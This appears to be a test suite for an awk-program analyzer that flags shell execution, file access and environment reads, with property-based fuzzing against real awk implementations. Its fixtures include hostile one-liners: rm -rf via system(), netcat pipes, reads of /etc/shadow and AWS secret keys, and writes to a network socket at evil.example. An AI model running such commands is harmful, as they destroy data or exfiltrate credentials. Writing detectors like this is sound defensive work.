import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readAwk } from '../../../src/command/readers/awk.ts';
import { hangMs } from '../../support/hang.ts';
import { plainPath, summarise } from '../../support/reading.ts';

const read = (program: string) => summarise(readAwk(program, { path: plainPath }));

describe('awk programs that only transform their input', () => {
  it.each([
    ['{print $1}'],
    ['{print $NF/2, $1 / 3 / 4}'],
    ['/error/'],
    ['!/^#/ && NF {print}'],
    ['NR==1,/end/{print NR": "$0}'],
    ['$3 > 100'],
    ['{ if ($1 > 5) print $2; else if ($1 > 2) print "x" }'],
    ['{print ($1 > 2)}'],
    ['{s += $5} END {print s/1024/1024 " MB"}'],
    ['BEGIN{FS=":"; OFS="\\t"} {print $1, $3}'],
    ['!seen[$0]++'],
    ['{a[$1]++} END {for (k in a) print k, a[k]}'],
    ['{gsub(/[^a-z]/, ""); print toupper(substr($0, 1, 1))}'],
    ['{n = split($0, parts, /[/,]/); print n}'],
    ['{print "a;b>c|d" "e"}'],
    ['# a comment | "id"\n{print}'],
    ['function f(x, y) { return x*y }\n{ print f($1, $2) }'],
    ['{print $1,\n  $2}'],
    ['BEGIN{while ((getline line) > 0) print line}'],
    ['{getline; print} NR>3{getline x; print x}'],
    ['FNR==NR{a[$1]=$2;next} $1 in a{print $0, a[$1]}'],
    ['FILENAME==ARGV[1]{n[$1]=1;next} {print}'],
    ['BEGIN{for(i=1;i<ARGC;i++) n++}'],
    ['{printf "%-10s %5.2f\\n", $1, $2/3}'],
    ['{printf("%s\\n", $1)}'],
    ['{print > "/dev/stderr"}'],
    ['BEGIN{print ENVIRON["HOME"]}'],
    ['BEGIN{system("")}'],
    ['{print length($0)/2, length}'],
    ['{x = $1 ~ /a|b/ ? "y" : "n"; print x}'],
    ['$1 ~ /[[:digit:]/]+/ {c++} END {print c+0}'],
    ['{do {i++} while (i < 5); exit 1}'],
    ['BEGIN { x["a"]; PROCINFO["sorted_in"] = "@ind_str_asc"; for (i in x) print i }'],
  ])('%j', (program) => {
    expect(read(program)).toEqual({});
  });
});

describe('awk programs that do more say so', () => {
  it.each([
    ['BEGIN{system("id")}', { shell: ['id'] }],
    ['BEGIN { system ( "rm -rf \\"x\\"" ) }', { shell: ['rm -rf "x"'] }],
    ['{print | "sort -u"}', { shell: ['sort -u'] }],
    ['{print $1, $2 | "mail bob"; close("mail bob")}', { shell: ['mail bob'] }],
    ['BEGIN{"date" | getline d; print d}', { shell: ['date'] }],
    ['BEGIN{while (("ls -la" | getline l) > 0) print l}', { shell: ['ls -la'] }],
    ['BEGIN{print "x" |& "nc h 1"}', { shell: ['nc h 1'] }],
    ['{print > "out.txt"}', { paths: ['write out.txt'] }],
    ['{print $1 >> "log"; x = 1}', { paths: ['write log'] }],
    ['{printf("%s", $1) > "f"}', { paths: ['write f'] }],
    ['{print (1 > 2) > "f"}', { paths: ['write f'] }],
    ['{print $1,\n$2 > "f"}', { paths: ['write f'] }],
    ['BEGIN{while ((getline l < "/etc/shadow") > 0) print l}', { paths: ['read /etc/shadow'] }],
    ['BEGIN{getline a[1] < "f"; print a[1]}', { paths: ['read f'] }],
    ['BEGIN{getline $0 < "f"}', { paths: ['read f'] }],
    ['BEGIN{for (k in ENVIRON) print ENVIRON[k]}', { effects: ['identity'] }],
    ['BEGIN{print ENVIRON["AWS_SECRET_ACCESS_KEY"]}', { effects: ['identity'] }],
    ['/[/]/ {system("id")}', { shell: ['id'] }],
    ['{print a / b; system("id") / 2}', { shell: ['id'] }],
  ])('%j', (program, want) => {
    expect(read(program)).toMatchObject(want);
  });

  it.each([
    ['{system($0)}'],
    ['{system("ls " $1)}'],
    ['BEGIN{c="id"; system(c)}'],
    ['BEGIN{c="id"; c | getline x}'],
    ['BEGIN{"i" "d" | getline x}'],
    ['{print | "sort" " -u"}'],
    ['{print | cmd}'],
    ['{print > $1".txt"}'],
    ['{print > $1}'],
    ['{print $2 > FILENAME}'],
    ['{getline x < $1}'],
    ['{getline x < "a" ".b"}'],
    ['BEGIN{f="system"; @f("id")}'],
    ['@include "x"'],
    ['@load "filefuncs"; BEGIN{chdir("/")}'],
    ['BEGIN{awk::system("id")}'],
    ['BEGIN{ARGV[1]="/etc/shadow"; ARGC=2} {print}'],
    ['BEGIN{SYMTAB["x"]=1}'],
    ['BEGIN{stat("/x", a)}'],
    ['BEGIN{extension("x.so", "f")}'],
    ['{print length / 2; x /= system("id")}'],
    ['{if (x) /a/; y}'],
    ['{print a[1 > 2]}'],
    ['{print "a'],
    ['{print /a}'],
    ['{print'],
    ['print}'],
    ['{print > "/inet/tcp/0/evil.example/80"}'],
    ['BEGIN{s = "/inet/tcp/0/h/1"; print "x" |& s}'],
    ['{print "\\x69d" | "\\x69d"}'],
    ['{print 1 # comment \\\n}'],
    ['/[\\]/]/ {print}'],
    ['{print}\u0000system'],
    ['{print "\u202e"}'],
  ])('%j is not understood', (program) => {
    expect(read(program)).toHaveProperty('unknowns');
  });
});

describe('the real awks as judges', () => {
  const tokens =
    '{ } ( ) [ ] ; \n / /a/ " \\ # + ++ -- | || && > >> < , ! ~ $1 x x[1] 1 "EVIL" print printf getline system( close( if( while( for(;;) length ?:'
      .split(' ')
      .concat([
        ' ',
        'system("EVIL")',
        '|"EVIL"',
        '"EVIL"|getline',
        'BEGIN{',
        '/[',
        '[/]',
        '[^',
        '\\/',
        'in',
        'else',
        '\\\n',
        '> "o"',
        'case',
        '+\n',
      ]);
  const bench = mkdtempSync(join(tmpdir(), 'awk-'));
  const marker = join(bench, 'ran');
  /** What a program wrote, or what it ran left behind. */
  const left = () => readdirSync(bench).filter((name) => name !== 'EVIL');
  writeFileSync(join(bench, 'EVIL'), `#!/bin/sh\n: > ${marker}\n`);
  chmodSync(join(bench, 'EVIL'), 0o755);

  it.each([['mawk'], ['busybox awk'], ['gawk']])(
    '%s runs and writes nothing that the reading does not say',
    { timeout: 90_000 },
    (program) => {
      const [command = '', ...first] = program.split(' ');
      const seeds = [
        '{ if ($1 > 2) print $1 | "EVIL"; else print $2 / 2 }',
        '{ x = $1 / 2; "EVIL" | getline y; print x / y }',
        '/a/ { gsub(/[/]/, ""); print; system("EVIL") }',
        'function f(a, b) { return a / b } { print f(1, 2), length($0) / 2; system("EVIL") }',
        '{ print $1,\n$2 | "EVIL" } # x',
        '{ print (1 > 2) / 3 | "EVIL" }',
        'END { print case / $(1) case > "o" || /x/ }',
        'BEGIN { print 1 +\n 2 > "o" }',
      ];
      const edit = fc.tuple(fc.nat(80), fc.integer({ min: 0, max: 3 }), fc.constantFrom('', ...tokens));
      const mutant = fc
        .tuple(fc.constantFrom(...seeds), fc.array(edit, { minLength: 1, maxLength: 3 }))
        .map(([seed, edits]) =>
          edits.reduce((text, [at, cut, piece]) => text.slice(0, at) + piece + text.slice(at + cut), seed),
        );
      const text = fc
        .oneof(
          fc.array(fc.constantFrom(...tokens), { minLength: 1, maxLength: 14 }).map((parts) => parts.join('')),
          mutant,
        )
        .filter((program) => {
          const { shell, paths } = readAwk(program, { path: plainPath });
          return shell.length === 0 && paths.every(({ access }) => access === 'read');
        })
        .filter((program) => !('unknowns' in read(program)));
      fc.assert(
        fc.property(text, (program) => {
          for (const name of left()) rmSync(join(bench, name));
          spawnSync(command, [...first, program], {
            cwd: bench,
            input: 'EVIL a\nx EVIL\n',
            env: { PATH: `${bench}:/usr/bin:/bin` },
            timeout: 1_000,
            killSignal: 'SIGKILL',
          });
          expect(left(), program).toEqual([]);
        }),
        { numRuns: Number(process.env.FUZZ_RUNS ?? 300) },
      );
    },
  );
});

it('is never thrown off, and stays linear', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => void read(text)));
  const started = performance.now();
  for (const piece of ['a[', '(', '/[', '"\\', '{print > "x"}', 'getline a[', '1,', 'x ', '# \n'])
    read(piece.repeat(16_384 / piece.length));
  expect(performance.now() - started).toBeLessThan(hangMs);
});
